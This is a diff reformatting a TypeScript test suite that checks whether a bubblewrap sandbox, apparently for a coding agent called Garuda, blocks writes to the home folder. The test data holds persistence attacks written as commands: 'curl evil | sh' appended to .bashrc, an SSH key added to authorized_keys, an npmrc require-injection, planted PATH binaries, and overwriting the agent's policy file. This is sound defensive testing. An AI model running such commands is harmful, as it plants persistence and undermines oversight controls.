@@ -40,90 +40,119 @@ const spec = (overrides: Partial<SandboxSpec> = {}): SandboxSpec => ({
   ...executor.spec(),
   root: home,
   // The user's PATH: ~/.local/bin, ~/bin, ~/go/bin, and a project's bin put there by direnv.
-  pathFolders: [join(home, ".local/bin"), join(home, "bin"), join(home, "go/bin"), join(home, "projects/app/node_modules/.bin"), "/usr/bin"],
+  pathFolders: [
+    join(home, ".local/bin"),
+    join(home, "bin"),
+    join(home, "go/bin"),
+    join(home, "projects/app/node_modules/.bin"),
+    "/usr/bin",
+  ],
   ...overrides,
 });
 const run = (command: string, s: SandboxSpec = spec()) => executor.run({ command, cwd: home, sandbox: s });
 
-describeSandbox("a session at the home folder, in bubblewrap", () => {
-  beforeAll(async () => {
-    home = makeTempDir("garuda-homeroot-", { real: true });
-    for (const [path, text] of Object.entries(files)) {
-      mkdirSync(join(home, path, ".."), { recursive: true });
-      writeFileSync(join(home, path), text);
-    }
-    mkdirSync(join(home, ".cache"));
-    executor = await createExecutor({ root: home, home, selfCommand: SELF_COMMAND, probe: machineSandbox });
-  });
-
-  afterAll(async () => {
-    await executor?.shutdown();
-    if (home) await rm(home, { recursive: true, force: true });
-  });
-
-  const attacks: Array<[string, string, string]> = [
-    ["an SSH key", "echo 'ssh-ed25519 EVIL' >> ~/.ssh/authorized_keys", ".ssh/authorized_keys"],
-    ["a login script", "echo 'curl evil | sh' >> ~/.bashrc", ".bashrc"],
-    ["a new dotfile at the top of the home", "echo 'node-options=--require /tmp/x.js' > ~/.npmrc", ".npmrc"],
-    ["an autostart entry", "echo x > ~/.config/autostart/evil.desktop", ".config/autostart/evil.desktop"],
-    ["a program in ~/.local/bin", "echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
-    ["a program in ~/bin", "echo x > ~/bin/ls", "bin/ls"],
-    ["a program in ~/go/bin", "echo x > ~/go/bin/go", "go/bin/go"],
-    ["a program in a PATH folder inside a project", "echo x > ~/projects/app/node_modules/.bin/tsc", "projects/app/node_modules/.bin/tsc"],
-    ["Garuda's policy", "echo '{}' > ~/.garuda/policy.json.new && mv ~/.garuda/policy.json.new ~/.garuda/policy.json", ".garuda/policy.json.new"],
-    ["a new folder at the top of the home", "mkdir ~/.config2", ".config2"],
-  ];
-
-  for (const [what, command, path] of attacks) {
-    test(`${what} cannot be written: ${command}`, async () => {
-      const before = existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined;
-      const result = await run(command);
-      expect(result.exitCode).not.toBe(0);
-      expect(result.output).toMatch(/Read-only file system|Permission denied/);
-      expect(existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined).toBe(before);
+describeSandbox(
+  "a session at the home folder, in bubblewrap",
+  () => {
+    beforeAll(async () => {
+      home = makeTempDir("garuda-homeroot-", { real: true });
+      for (const [path, text] of Object.entries(files)) {
+        mkdirSync(join(home, path, ".."), { recursive: true });
+        writeFileSync(join(home, path), text);
+      }
+      mkdirSync(join(home, ".cache"));
+      executor = await createExecutor({ root: home, home, selfCommand: SELF_COMMAND, probe: machineSandbox });
     });
-  }
 
-  test("a dotfile cannot be renamed away or replaced by a link", async () => {
-    expect((await run("mv ~/.bashrc ~/projects/rc")).exitCode).not.toBe(0);
-    expect((await run("rm -f ~/.profile")).exitCode).not.toBe(0);
-    expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
-    expect(readFileSync(join(home, ".profile"), "utf8")).toBe("# profile\n");
-  });
+    afterAll(async () => {
+      await executor?.shutdown();
+      if (home) await rm(home, { recursive: true, force: true });
+    });
 
-  test("the home's plain folders and the caches stay writable", async () => {
-    const result = await run("echo ok > ~/projects/app/notes.txt && echo ok > ~/go/src/x/new.go && echo ok > ~/.cache/c && mkdir -p ~/projects/new/src");
-    expect(result).toMatchObject({ exitCode: 0, output: "" });
-    expect(readFileSync(join(home, "projects/app/notes.txt"), "utf8")).toBe("ok\n");
-    expect(readFileSync(join(home, "go/src/x/new.go"), "utf8")).toBe("ok\n");
-    expect(readFileSync(join(home, ".cache/c"), "utf8")).toBe("ok\n");
-    expect(existsSync(join(home, "projects/new/src"))).toBe(true);
-  });
+    const attacks: Array<[string, string, string]> = [
+      ["an SSH key", "echo 'ssh-ed25519 EVIL' >> ~/.ssh/authorized_keys", ".ssh/authorized_keys"],
+      ["a login script", "echo 'curl evil | sh' >> ~/.bashrc", ".bashrc"],
+      ["a new dotfile at the top of the home", "echo 'node-options=--require /tmp/x.js' > ~/.npmrc", ".npmrc"],
+      ["an autostart entry", "echo x > ~/.config/autostart/evil.desktop", ".config/autostart/evil.desktop"],
+      ["a program in ~/.local/bin", "echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
+      ["a program in ~/bin", "echo x > ~/bin/ls", "bin/ls"],
+      ["a program in ~/go/bin", "echo x > ~/go/bin/go", "go/bin/go"],
+      [
+        "a program in a PATH folder inside a project",
+        "echo x > ~/projects/app/node_modules/.bin/tsc",
+        "projects/app/node_modules/.bin/tsc",
+      ],
+      [
+        "Garuda's policy",
+        "echo '{}' > ~/.garuda/policy.json.new && mv ~/.garuda/policy.json.new ~/.garuda/policy.json",
+        ".garuda/policy.json.new",
+      ],
+      ["a new folder at the top of the home", "mkdir ~/.config2", ".config2"],
+    ];
 
-  test("negative control: mounted writable on purpose (writePaths), the same writes succeed, so it is the mounts that stop them", async () => {
-    const open = spec({ writePaths: [join(home, ".local/bin"), join(home, ".config")], pathFolders: [] });
-    const result = await run("echo x > ~/.local/bin/git && echo x > ~/.config/autostart/evil.desktop && echo x > ~/projects/app/node_modules/.bin/tsc", open);
-    expect(result).toMatchObject({ exitCode: 0, output: "" });
-    expect(readFileSync(join(home, ".local/bin/git"), "utf8")).toBe("x\n");
-    expect(readFileSync(join(home, ".config/autostart/evil.desktop"), "utf8")).toBe("x\n");
-    await rm(join(home, ".local/bin/git"));
-    await rm(join(home, ".config/autostart/evil.desktop"));
-    await rm(join(home, "projects/app/node_modules/.bin/tsc"));
-  });
-
-  test("transcripts, audit logs, undo snapshots, mcp.json and hooks.json are unreadable; Garuda's other files stay readable (negative control)", async () => {
-    for (const folder of ["sessions/proj-1/s.jsonl", "audit/proj-1/a.jsonl", "snapshots/proj-1/HEAD"]) {
-      const result = await run(`cat ~/.garuda/${folder}`);
-      expect(result.exitCode).not.toBe(0);
-      expect(result.output).toContain("No such file or directory");
+    for (const [what, command, path] of attacks) {
+      test(`${what} cannot be written: ${command}`, async () => {
+        const before = existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined;
+        const result = await run(command);
+        expect(result.exitCode).not.toBe(0);
+        expect(result.output).toMatch(/Read-only file system|Permission denied/);
+        expect(existsSync(join(home, path)) ? readFileSync(join(home, path), "utf8") : undefined).toBe(before);
+      });
     }
-    expect((await run("ls -A ~/.garuda/sessions ~/.garuda/audit ~/.garuda/snapshots")).output).not.toContain("proj-1");
-    const configs = await run("cat ~/.garuda/mcp.json ~/.garuda/hooks.json");
-    expect(configs.exitCode).not.toBe(0);
-    expect(configs.output).not.toContain("ghp_secret");
-    expect((await run("cat ~/.garuda/trust.json"))).toMatchObject({ exitCode: 0, output: "{}\n" });
-    // The same hiding in a session anywhere else (here: a project inside the home).
-    const elsewhere = await executor.run({ command: "cat ~/.garuda/sessions/proj-1/s.jsonl", cwd: join(home, "projects/app"), sandbox: { ...spec(), root: join(home, "projects/app") } });
-    expect(elsewhere.exitCode).not.toBe(0);
-  });
-}, "bwrap");
+
+    test("a dotfile cannot be renamed away or replaced by a link", async () => {
+      expect((await run("mv ~/.bashrc ~/projects/rc")).exitCode).not.toBe(0);
+      expect((await run("rm -f ~/.profile")).exitCode).not.toBe(0);
+      expect(readFileSync(join(home, ".bashrc"), "utf8")).toBe("# rc\n");
+      expect(readFileSync(join(home, ".profile"), "utf8")).toBe("# profile\n");
+    });
+
+    test("the home's plain folders and the caches stay writable", async () => {
+      const result = await run(
+        "echo ok > ~/projects/app/notes.txt && echo ok > ~/go/src/x/new.go && echo ok > ~/.cache/c && mkdir -p ~/projects/new/src",
+      );
+      expect(result).toMatchObject({ exitCode: 0, output: "" });
+      expect(readFileSync(join(home, "projects/app/notes.txt"), "utf8")).toBe("ok\n");
+      expect(readFileSync(join(home, "go/src/x/new.go"), "utf8")).toBe("ok\n");
+      expect(readFileSync(join(home, ".cache/c"), "utf8")).toBe("ok\n");
+      expect(existsSync(join(home, "projects/new/src"))).toBe(true);
+    });
+
+    test("negative control: mounted writable on purpose (writePaths), the same writes succeed, so it is the mounts that stop them", async () => {
+      const open = spec({ writePaths: [join(home, ".local/bin"), join(home, ".config")], pathFolders: [] });
+      const result = await run(
+        "echo x > ~/.local/bin/git && echo x > ~/.config/autostart/evil.desktop && echo x > ~/projects/app/node_modules/.bin/tsc",
+        open,
+      );
+      expect(result).toMatchObject({ exitCode: 0, output: "" });
+      expect(readFileSync(join(home, ".local/bin/git"), "utf8")).toBe("x\n");
+      expect(readFileSync(join(home, ".config/autostart/evil.desktop"), "utf8")).toBe("x\n");
+      await rm(join(home, ".local/bin/git"));
+      await rm(join(home, ".config/autostart/evil.desktop"));
+      await rm(join(home, "projects/app/node_modules/.bin/tsc"));
+    });
+
+    test("transcripts, audit logs, undo snapshots, mcp.json and hooks.json are unreadable; Garuda's other files stay readable (negative control)", async () => {
+      for (const folder of ["sessions/proj-1/s.jsonl", "audit/proj-1/a.jsonl", "snapshots/proj-1/HEAD"]) {
+        const result = await run(`cat ~/.garuda/${folder}`);
+        expect(result.exitCode).not.toBe(0);
+        expect(result.output).toContain("No such file or directory");
+      }
+      expect((await run("ls -A ~/.garuda/sessions ~/.garuda/audit ~/.garuda/snapshots")).output).not.toContain(
+        "proj-1",
+      );
+      const configs = await run("cat ~/.garuda/mcp.json ~/.garuda/hooks.json");
+      expect(configs.exitCode).not.toBe(0);
+      expect(configs.output).not.toContain("ghp_secret");
+      expect(await run("cat ~/.garuda/trust.json")).toMatchObject({ exitCode: 0, output: "{}\n" });
+      // The same hiding in a session anywhere else (here: a project inside the home).
+      const elsewhere = await executor.run({
+        command: "cat ~/.garuda/sessions/proj-1/s.jsonl",
+        cwd: join(home, "projects/app"),
+        sandbox: { ...spec(), root: join(home, "projects/app") },
+      });
+      expect(elsewhere.exitCode).not.toBe(0);
+    });
+  },
+  "bwrap",
+);
